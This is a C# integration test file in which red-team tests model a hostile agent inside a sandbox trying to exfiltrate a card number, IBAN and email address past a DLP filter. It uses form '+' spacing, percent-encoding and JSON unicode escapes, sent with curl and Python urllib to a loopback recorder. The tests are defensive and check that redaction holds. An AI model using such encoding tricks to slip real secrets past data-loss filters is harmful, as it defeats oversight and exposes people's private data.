using System.Text;
using Xunit;

namespace Vibedom.IntegrationTests.RedTeam;

/// <summary>
/// Red team (redteam5): the hostile agent inside `vibedom run` tries to get a workspace secret (a value the pre-flight
/// found) or PII out to an ALLOWED host unscrubbed, using only encodings and framings docs/SECURITY.md says DLP covers.
/// Real binary, real sandbox, real clients (curl, Python's urllib); the loopback upstream records what it receives.
/// Here: PII written as forms, headers and JSON encode it.
/// </summary>
public sealed class RedTeamDlpPiiTests
{
    private static string Card => string.Concat("4111 1111", " 1111 1111");

    private static string Iban => string.Concat("DE89 3704 0044", " 0532 0130 00");

    private static string Email => string.Concat("jane.doe", "@", "example", ".org");

    /// <summary>
    /// Was a FINDING (medium), fixed: PII runs on the decoded passes (FormDecoding). PII in a form-encoded body, written as Python and HTML forms write it (spaces as '+'): a card
    /// number and an IBAN grouped by spaces arrive whole. The number detectors accept only ' ' or '-' between groups
    /// (DigitRun), and no decoding of a form body happens before the PII detectors.
    /// </summary>
    [Fact]
    public async Task A_card_and_an_iban_in_a_python_form_body_arrive_redacted()
    {
        await using var s = await RedTeamDlp.StartAsync();

        var result = await RedTeamDlp.RunAsync(s, $$"""
            export CARD="{{Card[..9]}}""{{Card[9..]}}" IBAN="{{Iban[..14]}}""{{Iban[14..]}}"
            python3 - <<'PY'
            import os, urllib.parse, urllib.request
            body = urllib.parse.urlencode({"card": os.environ["CARD"], "iban": os.environ["IBAN"]}).encode()
            req = urllib.request.Request("{{s.HttpsUrl("/record/form-pii")}}", data=body, method="POST",
                                         headers={"Content-Type": "application/x-www-form-urlencoded"})
            urllib.request.urlopen(req).read()
            PY
            """);

        Assert.True(result.ExitCode == 0, result.StandardError);
        var body = Encoding.UTF8.GetString(RedTeamDlp.Received(s, "/record/form-pii").Body);
        Assert.False(body.Contains(Card.Replace(' ', '+'), StringComparison.Ordinal), "the upstream received the card number: " + body);
        Assert.False(body.Contains(Iban.Replace(' ', '+'), StringComparison.Ordinal), "the upstream received the IBAN: " + body);
    }

    /// <summary>
    /// Was a FINDING (medium), fixed: PII runs on the decoded passes (FormDecoding, JsonEscapes). An e-mail address in a form body as `curl --data-urlencode` writes it (`%40`), in a header
    /// percent-encoded, and in JSON with its '@' escaped (`\u0040`) arrives whole: the PII detectors run on the raw
    /// text only (DlpEngine.Find hands them the text, never the decoder's passes), so PII is found percent-decoded in
    /// the URL only.
    /// </summary>
    [Fact]
    public async Task An_email_percent_encoded_in_a_form_body_or_a_header_or_unicode_escaped_in_json_arrives_redacted()
    {
        await using var s = await RedTeamDlp.StartAsync();
        var (user, domain) = (Email[..8], Email[9..]);

        var result = await RedTeamDlp.RunAsync(s, $$"""
            set -e
            curl -sS -o /dev/null --data-urlencode "mail={{user}}@{{domain}}" '{{s.HttpsUrl("/record/mail-form")}}'
            curl -sS -o /dev/null -H "X-Mail: {{user}}%40{{domain}}" '{{s.HttpsUrl("/record/mail-header")}}'
            curl -sS -o /dev/null -H 'Content-Type: application/json' --data-binary '{"mail":"{{user}}\u0040{{domain}}"}' '{{s.HttpsUrl("/record/mail-json")}}'
            """);

        Assert.True(result.ExitCode == 0, result.StandardError);
        foreach (var (path, form) in new[] { ("/record/mail-form", user + "%40" + domain), ("/record/mail-header", user + "%40" + domain), ("/record/mail-json", user + "\\u0040" + domain) })
        {
            var received = RedTeamDlp.Received(s, path);
            Assert.False(received.AllText.Contains(form, StringComparison.Ordinal), $"{path}: the upstream received the address as {form}");
        }
    }
}
